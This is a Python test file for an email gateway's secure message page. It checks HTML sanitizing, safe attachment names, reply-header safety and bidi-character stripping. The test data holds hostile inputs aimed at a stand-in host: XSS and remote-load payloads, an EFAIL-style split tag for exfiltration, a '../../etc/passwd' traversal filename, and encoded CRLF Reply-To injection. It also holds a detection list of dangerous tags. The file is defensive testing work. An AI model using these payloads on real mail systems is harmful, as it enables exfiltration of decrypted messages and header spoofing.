"""What the secure page shows of a message: sanitized HTML, the right body, safe file names.

Threat: a message (written by anyone who can mail a hosted user and then be
forwarded, or by a careless sender) whose HTML loads remote content, runs
script, submits a form, redirects, or smuggles markup across MIME parts (EFAIL's
direct exfiltration), all on the portal's origin, where the decrypted message is.
"""

from __future__ import annotations

import email.policy
from email.message import EmailMessage

import pytest

from gateway.securepage import content

EVIL = "http://evil.example"


@pytest.mark.parametrize(
    "html",
    [
        f'<img src="{EVIL}/a.png">',
        f'<img srcset="{EVIL}/a.png 1x">',
        f'<div style="background:url({EVIL}/b.png)">x</div>',
        f"<style>body{{background:url({EVIL}/c.png)}}</style>",
        f'<link rel="stylesheet" href="{EVIL}/d.css">',
        f'<form action="{EVIL}/f"><input name="q"><button>go</button></form>',
        f'<meta http-equiv="refresh" content="0;url={EVIL}/r">',
        f'<iframe src="{EVIL}/i"></iframe>',
        f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
        f'<video poster="{EVIL}/v.png"></video><audio src="{EVIL}/a.mp3"></audio>',
        f'<svg><image href="{EVIL}/s.png"/></svg>',
        f'<table background="{EVIL}/t.png"><tr><td>x</td></tr></table>',
        f'<body background="{EVIL}/bg.png">x</body>',
        f'<script src="{EVIL}/s.js"></script><script>fetch("{EVIL}")</script>',
        f"<a href=\"javascript:fetch('{EVIL}')\">x</a>",
        f'<a href="{EVIL}/ok" ping="{EVIL}/ping">x</a>',
        f"<p onmouseover=\"fetch('{EVIL}')\">x</p>",
        f'<base href="{EVIL}/">',
        f'<img src="{EVIL}/efail?',
    ],
)
def test_nothing_that_loads_or_runs_survives(html: str) -> None:
    cleaned = content.sanitize_html(html)
    lowered = cleaned.lower()
    for marker in (
        "<img",
        "<style",
        "style=",
        "<link",
        "<form",
        "<input",
        "<meta",
        "<iframe",
        "<object",
        "<embed",
        "<video",
        "<audio",
        "<svg",
        "<image",
        "background",
        "<script",
        "javascript:",
        "ping=",
        "onmouseover",
        "<base",
        "srcset",
    ):
        assert marker not in lowered, (marker, cleaned)
    # A link may stay (clicking is the reader's choice), never anything fetched by itself.
    assert EVIL not in cleaned or cleaned.count(EVIL) == cleaned.count(f'href="{EVIL}/ok"')


def test_links_open_outside_with_noopener_noreferrer() -> None:
    cleaned = content.sanitize_html('<a href="https://example.org/x" target="_self">x</a>')
    assert cleaned == (
        '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">x</a>'
    )


def message(*parts: tuple[str, str, str | None]) -> bytes:
    """multipart/mixed of (subtype, text, disposition) text parts, plus headers."""
    msg = EmailMessage()
    msg["From"] = "Alice <alice@example.test>"
    msg["To"] = "carol@elsewhere.example"
    msg["Cc"] = "dan@elsewhere.example"
    msg["Subject"] = "Grüße"
    msg["Message-ID"] = "<m1@example.test>"
    msg.set_content("plain body\n")
    msg.add_alternative("<p>html <b>body</b></p>", subtype="html")
    for subtype, text, disposition in parts:
        msg.add_attachment(text, subtype=subtype, disposition=disposition or "inline")
    return msg.as_bytes(policy=email.policy.SMTP)


def test_html_is_preferred_and_each_part_is_cleaned_on_its_own() -> None:
    raw = message(("html", f'<p>one</p><img src="{EVIL}/efail?', None), ("html", '">two', None))
    page = content.parse(raw)
    assert [b.kind for b in page.bodies] == ["html", "html", "html"]
    assert page.bodies[0].content.strip() == "<p>html <b>body</b></p>"
    joined = "".join(b.content for b in page.bodies)
    assert "<img" not in joined and EVIL not in joined
    assert page.bodies[2].content.strip() == '"&gt;two'  # the closing half stays inert text
    assert (page.sender, page.to, page.cc, page.subject) == (
        "Alice <alice@example.test>",
        "carol@elsewhere.example",
        "dan@elsewhere.example",
        "Grüße",
    )
    assert page.message_id == "<m1@example.test>"


def test_attachments_are_numbered_named_safely_and_returned_byte_for_byte() -> None:
    msg = EmailMessage()
    msg["Subject"] = "files"
    msg.set_content("see files\n")
    msg.add_attachment(b"\x00\x01pdf", maintype="application", subtype="pdf", filename="a.pdf")
    msg.add_attachment(
        b"evil", maintype="application", subtype="octet-stream", filename="../../etc/passwd"
    )
    msg.add_attachment(
        b"ctl", maintype="application", subtype="octet-stream", filename="bad\u202ename\r\n.txt"
    )
    inner = EmailMessage()
    inner["Subject"] = "forwarded"
    inner.set_content("inner body\n")
    msg.add_attachment(inner)
    raw = msg.as_bytes(policy=email.policy.SMTP)
    page = content.parse(raw)
    assert [(a.index, a.filename) for a in page.attachments] == [
        (0, "a.pdf"),
        (1, "passwd"),
        (2, "badname.txt"),
        (3, "message.eml"),
    ]
    found = content.attachment(raw, 0)
    assert found is not None and found[1] == b"\x00\x01pdf"
    forwarded = content.attachment(raw, 3)
    assert forwarded is not None and b"inner body" in forwarded[1]
    assert content.attachment(raw, 4) is None and content.attachment(raw, -1) is None


def test_a_malformed_message_id_is_not_used_for_threading() -> None:
    raw = b"Subject: x\r\nMessage-ID: <a b>\r\n\r\nbody\r\n"
    assert content.parse(raw).message_id == ""
    assert content.parse(raw).bodies[0].content.strip() == "body"


@pytest.mark.parametrize(
    ("subject", "message_id"),
    [
        # Decoded once by the page, each is an encoded word holding CR LF and a field.
        ("=?utf-8?q?=3D=3Futf-8=3Fq=3Fhi=3D0D=3D0AReply-To=3A=5Fm=40evil.example=3F=3D?=", "<q@x>"),
        ("hello", "=?utf-8?q?=3C=3D=3Futf-8=3Fq=3Fa=3D0D=3D0AReply-To=3A=5Fm=40e=3F=3D=40x=3E?="),
    ],
)
def test_an_answer_never_gets_a_field_from_the_page(subject: str, message_id: str) -> None:
    import datetime as dt

    from gateway.securepage.reply import build_reply
    from gateway.settings import SecurePageSettings

    raw = f"Subject: {subject}\r\nMessage-ID: {message_id}\r\n\r\nbody\r\n".encode()
    page = content.parse(raw)
    answer = build_reply(
        recipient="carol@partner.example",
        sender_address="alice@example.test",
        original=page,
        text="thanks",
        files=[],
        now=dt.datetime(2026, 12, 6, tzinfo=dt.UTC),
        hostname="mail.example.test",
        settings=SecurePageSettings(),
    )
    parsed = email.message_from_bytes(answer, policy=email.policy.default)
    assert parsed["Reply-To"] is None and b"\nReply-To:" not in answer
    threading = {"In-Reply-To", "References"} if page.message_id == "<q@x>" else set()
    assert set(parsed.keys()) == {
        "From",
        "To",
        "Subject",
        "Date",
        "Message-ID",
        "MIME-Version",
        "Content-Type",
        "Content-Transfer-Encoding",
        *threading,
    }
    assert "\r" not in str(parsed["Subject"]) and "\n" not in str(parsed["Subject"])


def test_fields_pythons_parser_fails_on_give_a_page_not_an_error() -> None:
    """Python's header parsers raise on these (AttributeError, IndexError): the secure
    page answered 500, and the recipient could not read the message at all."""
    raw = (
        b"From: a@example.org\r\nCc: :;:;\r\nMessage-ID: <a@[b>\r\nSubject: s\r\n"
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/plain\r\n\r\nDer Text.\r\n"
        b"--b\r\nContent-Type: application/pdf\r\n"
        b"Content-Disposition: attachment; filename*=\"''\"; filename*0=\r\n\r\n%PDF\r\n--b--\r\n"
    )
    page = content.parse(raw)
    assert [b.content for b in page.bodies] == ["Der Text."]
    assert page.message_id == "" and page.subject == "s"
    found = content.attachment(raw, 0)
    assert found is not None and found[1] == b"%PDF"


def test_bidi_overrides_are_dropped_from_the_headers_shown() -> None:
    raw = (
        b"From: =?utf-8?q?Bob_=E2=80=AEliam=E2=80=AC?= <a@example.org>\r\n"
        b"Subject: =?utf-8?q?Invoice_=E2=80=AEfdp.exe?=\r\n\r\nx\r\n"
    )
    page = content.parse(raw)
    assert page.subject == "Invoice fdp.exe" and page.sender == "Bob liam <a@example.org>"
